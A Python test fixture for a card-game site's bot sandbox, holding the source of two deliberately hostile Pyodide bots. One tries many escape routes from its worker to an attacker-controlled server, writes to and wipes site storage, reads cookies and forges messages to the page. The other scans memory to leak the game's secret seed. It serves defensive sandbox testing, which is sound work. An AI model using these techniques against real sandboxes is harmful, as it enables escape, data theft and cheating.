"""Visitors' bots that attack: one tries to escape from its worker, one hunts for the seed.

The first tries every way out and plays the lowest card. Each attempt names itself in an address, a
key or a message, so that a test can look for its *effect*: at a server, in the site's storage, in
the page. At the table the bot fails, and its error says what became of each attempt.
"""

from __future__ import annotations

MARK = "escaped"
"""Stands in every address, key and message of the attempts."""

SOURCE = f'''
import asyncio
import inspect
import json

import js
from eldesthand.core.actions import PlayCard
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

MARK = "{MARK}"
PLACES = "{{outside}}", "{{home}}"
'''

SOURCE += '''
outcomes = {}


def record(value):
    return to_js(value, dict_converter=js.Object.fromEntries)


def attempt(name, act):
    """Try one way out, and note what became of it, now or later."""
    try:
        found = act()
    except BaseException as error:
        outcomes[name] = f"refused: {error}"
        return
    outcomes[name] = "went through"
    if inspect.isawaitable(found):
        outcomes[name] = "pending"
        asyncio.ensure_future(follow(name, found))


async def follow(name, found):
    try:
        await found
        outcomes[name] = "went through"
    except BaseException as error:
        outcomes[name] = f"refused: {error}"


def read_now(address):
    request = js.XMLHttpRequest.new()
    request.open("GET", address, False)
    request.send()


def start_worker(kind, address):
    return kind.new(address)


def start_inner(address):
    """A worker of the worker's own, which asks the network."""
    script = f"fetch('{address}-inner'); importScripts('{address}-scripts')"
    return js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([script]))))


def load_font(address):
    return js.FontFace.new("f", f"url({address})").load()


def call(address):
    servers = [{"urls": address.replace("http://", "stun:").split("/")[0]}]
    return js.RTCPeerConnection.new(record({"iceServers": servers}))


for place in PLACES:
    at = f"{place}{MARK}"
    for name, act in {
        "fetch": lambda: js.fetch(f"{at}-fetch"),
        "XMLHttpRequest": lambda: read_now(f"{at}-xhr"),
        "WebSocket": lambda: js.WebSocket.new(f"{at}-socket".replace("http", "ws", 1)),
        "EventSource": lambda: js.EventSource.new(f"{at}-events"),
        "WebTransport": lambda: js.WebTransport.new(f"{at}-transport".replace("p:", "ps:")).ready,
        "sendBeacon": lambda: js.navigator.sendBeacon(f"{at}-beacon", "cards"),
        "importScripts": lambda: js.importScripts(f"{at}-scripts"),
        "import": lambda: run_js(f"import('{at}-import')"),
        "eval": lambda: js.eval(f"fetch('{at}-eval')"),
        "Function": lambda: js.Function.new(f"return fetch('{at}-function')")(),
        "text for a timer": lambda: js.setTimeout(f"fetch('{at}-timer')"),
        "Worker": lambda: start_worker(js.Worker, f"{at}-worker"),
        "SharedWorker": lambda: start_worker(js.SharedWorker, f"{at}-shared"),
        "inner worker": lambda: start_inner(at),
        "font": lambda: load_font(f"{at}-font"),
        "RTCPeerConnection": lambda: call(f"{at}-call"),
        "window of the page": lambda: js.open(f"{at}-window"),
    }.items():
        attempt(f"{name} {place}", act)


def keep_in_database():
    request = js.indexedDB.open(MARK)
    def made(event):
        request.result.createObjectStore(MARK)
    request.onupgradeneeded = create_proxy(made)


async def keep_in_cache():
    cache = await js.caches.open(MARK)
    await cache.put(f"{PLACES[1]}{MARK}", js.Response.new(MARK))


async def keep_file():
    folder = await js.navigator.storage.getDirectory()
    await folder.getFileHandle(MARK, create=True)


async def spoil_memory():
    folder = await js.navigator.storage.getDirectory()
    async for entry in folder.values():
        await folder.removeEntry(entry.name)


def make(root):
    return root.getFile(MARK, record({"create": True}), create_proxy(print))


ORIGIN = "/".join(PLACES[1].split("/")[:3])


async def spoil_cache():
    for name in (await js.caches.keys()).to_py():
        await js.caches.delete(name)


def tell_page(message):
    return js.postMessage(record(message))


def shout():
    channel = js.BroadcastChannel.new(MARK)
    channel.postMessage(MARK)


for name, act in {
    "indexedDB": keep_in_database,
    "caches": keep_in_cache,
    "spoil caches": spoil_cache,
    "private files": keep_file,
    "spoil the memory": spoil_memory,
    "cookieStore": lambda: js.cookieStore.set(MARK, MARK),
    "serviceWorker": lambda: js.navigator.serviceWorker.register(f"{PLACES[1]}service-worker.js"),
    "locks": lambda: js.navigator.locks.request(MARK, create_proxy(lambda lock: None)),
    "localStorage": lambda: js.localStorage.setItem(MARK, MARK),
    "requestFileSystem": lambda: js.webkitRequestFileSystem(0, 1000, create_proxy(make)),
    "requestFileSystemSync": lambda: make(js.webkitRequestFileSystemSync(0, 1000).root),
    "resolve": lambda: js.webkitResolveLocalFileSystemURL(
        f"filesystem:{ORIGIN}/temporary/", create_proxy(make)
    ),
    "resolveSync": lambda: make(
        js.webkitResolveLocalFileSystemSyncURL(f"filesystem:{ORIGIN}/temporary/")
    ),
    "BroadcastChannel": shout,
    "parent": lambda: js.parent.postMessage(MARK, "*"),
    "top": lambda: js.top.document.title,
    "opener": lambda: js.opener.postMessage(MARK, "*"),
    "document": lambda: js.document.cookie,
    "forged failure": lambda: tell_page({"failure": {"kind": "died", "message": MARK}}),
    "forged name": lambda: tell_page({"ready": True, "name": MARK}),
    "forged reply": lambda: tell_page({"table": 1, "id": 1, "reply": {"name": MARK}}),
    "forged frame": lambda: tell_page({"table": 1, "frame": 1, "failure": MARK}),
    "raw": lambda: js.postMessage(MARK),
}.items():
    attempt(name, act)


class Lowest:
    def choose(self, view):
        if not view.players[0].name.startswith("Trial"):
            raise LookupError(json.dumps(outcomes))
        return PlayCard(view.seat, min(view.playable, key=lambda card: card.rank))
'''


def escape_to(outside: str, home: str) -> str:
    """Return the bot's source, for a server of the attacker's and the site's own address."""
    return SOURCE.replace("{outside}", outside).replace("{home}", home)


HUNTER = '''
import gc, json, re, sys

from eldesthand.core.actions import PlayCard

SEED = re.compile(r"[0-9a-f]{32,}")


def texts():
    """Every text that can be reached from here."""
    frame = sys._getframe()
    while frame:
        yield from map(str, frame.f_locals.values())
        frame = frame.f_back
    for module in list(sys.modules.values()):
        globals_of = getattr(module, "__dict__", {})  # modules of JavaScript have none
        yield from (each for each in dict(globals_of).values() if isinstance(each, str))
    for known in gc.get_objects():
        for each in gc.get_referents(known):
            if isinstance(each, (str, bytes)):
                yield each if isinstance(each, str) else each.decode("latin-1")


class Hunter:
    def choose(self, view):
        if view.players[0].name.startswith("Trial"):
            return PlayCard(view.seat, view.playable[0])
        found = {word for text in list(texts()) for word in SEED.findall(text)}
        raise LookupError("found " + " ".join(sorted(found)))
'''
"""A bot that hunts for the seed of the sitting: its error has every text in which a seed could be.

It waits for the real table: at its trial deal there is nothing to find. It looks at every frame,
every object that Python knows of, and all modules with their globals.
"""
